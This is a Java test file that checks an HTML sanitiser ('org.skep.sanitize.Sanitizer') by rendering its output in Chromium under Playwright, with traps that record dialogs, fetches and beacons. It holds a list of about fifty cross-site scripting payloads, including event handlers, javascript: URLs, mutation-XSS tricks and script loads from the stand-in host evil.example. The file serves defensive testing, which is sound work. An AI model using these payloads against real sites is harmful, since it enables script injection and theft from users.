package org.skep.demo;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.skep.sanitize.Sanitizer;
import tools.jackson.databind.json.JsonMapper;

/**
 * What the sanitiser lets through, in a real Chromium without any content security policy: every
 * dialog and every request is a trap, every element is hovered, focused and clicked.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SanitizedPagesTest {
  private static final String ADDRESS = "http://trap.localhost/";
  private static final int PER_PAGE = 40;
  private static final String TRAPS =
      """
      window.sprung = [];
      for (const name of ['alert', 'confirm', 'prompt', 'fetch', 'open', 'print'])
        window[name] = (...args) => { sprung.push(name + ' ' + args[0]); return null; };
      XMLHttpRequest.prototype.open = function(m, url) { sprung.push('xhr ' + url); };
      navigator.sendBeacon = url => sprung.push('beacon ' + url);
      """;
  private static final String TOUCH =
      """
      for (const e of document.querySelectorAll('body *')) {
        for (const type of ['mouseover', 'mouseenter', 'pointerover', 'focus', 'toggle', 'animationstart'])
          e.dispatchEvent(new Event(type, { bubbles: true }));
        if (e.focus) e.focus();
        if (e.tagName === 'A' && !/^(https?|mailto|tel):/i.test(e.href)) e.click();
      }
      """;

  /** One of each way in that a feed has. */
  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img/src=\"x\"/onerror=\"alert(1)\">",
          "<img src=\"x\" onerror\u000c=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
              + " onerror=alert(1)&gt;\">",
          "<math href=\"javascript:alert(1)\">x</math>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
          "<a href=\" \u0001javascript:alert(1)\">x</a>",
          "<a href=\"java\nscript:alert(1)\">x</a>",
          "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
          "<a href=\"&#106;avascript:alert(1)\">x</a>",
          "<a href=\"vbscript:alert(1)\">x</a>",
          "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
          "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
          "<form action=\"javascript:alert(1)\"><button>x</button></form>",
          "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>x</details>",
          "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
          "<body onload=alert(1)><p>x",
          "<marquee onstart=alert(1)>x</marquee>",
          "<style>@import '//evil.example/x.css';</style>",
          "<p style=\"background:url(//evil.example/x)\">x</p>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
          "<base href=\"javascript:alert(1)//\"><a href=x>x</a>",
          "<template><img src=x onerror=alert(1)></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
          "<!--><img src=x onerror=alert(1)>-->",
          "<![CDATA[<img src=x onerror=alert(1)>]]>",
          "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
          "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
          "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
          "<select><style></select><img src=x onerror=alert(1)></style>",
          "<p id=\"sprung\" name=\"alert\">clobbers</p><form name=document></form>",
          "<custom-element onclick=alert(1) tabindex=1 onfocus=alert(1)>x</custom-element>",
          "&lt;img src=x onerror=alert(1)&gt; as text",
          "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
          "<a href=\"https://fine.example/\" target=_blank onclick=alert(1)>x</a>");

  private final Sanitizer sanitizer = new Sanitizer();
  private Chromium chromium;
  private BrowserContext context;
  private Page page;
  private final List<String> sprung = new ArrayList<>();
  private String body = "";

  @BeforeAll
  void start() {
    chromium = Chromium.launch();
    context = chromium.browser().newContext();
    context.addInitScript(TRAPS);
    page = context.newPage();
    page.onDialog(dialog -> {
      sprung.add("dialog " + dialog.message());
      dialog.dismiss();
    });
    page.route(
        "**/*",
        route -> {
          if (route.request().url().equals(ADDRESS)) {
            route.fulfill(
                new Route.FulfillOptions()
                    .setContentType("text/html; charset=utf-8")
                    .setBody("<!doctype html><title>x</title><body>" + body));
          } else {
            String kind = route.request().resourceType();
            if (!kind.equals("image")
                && !kind.equals("media")) { // pictures are the proxy's business
              sprung.add(kind + " " + route.request().url());
            }
            route.abort();
          }
        });
  }

  @AfterAll
  void stop() {
    if (chromium != null) {
      chromium.close();
    }
  }

  @Test
  void theTrapsSpringWithoutTheSanitiser() {
    assertThat(render("<img src=x onerror=alert(1)>")).isNotEmpty();
    assertThat(render("<a href=\"javascript:alert(1)\">x</a>")).isNotEmpty();
    assertThat(render("<iframe src=\"//evil.example/\"></iframe>")).isNotEmpty();
  }

  @Test
  void noPayloadRunsOrAsksAnybodyAfterIt() {
    for (String payload : PAYLOADS) {
      assertThat(render(sanitizer.sanitize(payload))).as(payload).isEmpty();
    }
  }

  /** By hand, with -Dskep.payloads=FILE of {@code {"in":{"html":...}}} lines, gzip or plain. */
  @Test
  @EnabledIfSystemProperty(named = "skep.payloads", matches = ".+")
  void noPayloadOfAFileRunsEither() throws IOException {
    Path file = Path.of(System.getProperty("skep.payloads"));
    var json = JsonMapper.shared();
    var section = new StringBuilder();
    int count = 0;
    try (var in = Files.newInputStream(file);
        var lines =
            new BufferedReader(
                new InputStreamReader(
                    file.toString().endsWith(".gz") ? new GZIPInputStream(in) : in,
                    StandardCharsets.UTF_8))) {
      for (String line = lines.readLine(); line != null; line = lines.readLine()) {
        String html = json.readTree(line).path("in").path("html").asString("");
        section.append("<section>").append(sanitizer.sanitize(html)).append("</section>\n");
        if (++count % PER_PAGE == 0) {
          assertThat(render(section.toString())).as("up to line " + count).isEmpty();
          section.setLength(0);
        }
      }
    }
    assertThat(render(section.toString())).as("up to line " + count).isEmpty();
    System.out.println("rendered " + count + " payloads, no trap sprung");
  }

  /** What sprang on a page with this body. */
  private List<String> render(String html) {
    sprung.clear();
    body = html;
    page.navigate(ADDRESS);
    page.evaluate(TOUCH);
    page.waitForTimeout(60); // handlers of failed pictures run a moment later
    ((List<?>) Objects.requireNonNull(page.evaluate("window.sprung.map(String)")))
        .forEach(one -> sprung.add("" + one));
    return List.copyOf(sprung);
  }
}
